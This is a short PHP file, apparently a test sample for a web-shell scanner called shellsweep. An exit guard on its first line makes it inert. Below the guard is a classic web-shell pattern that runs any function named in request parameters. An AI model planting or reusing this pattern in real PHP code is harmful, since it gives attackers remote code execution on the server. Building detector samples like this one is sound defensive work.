<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
@extract($_REQUEST);
@die($a($b));
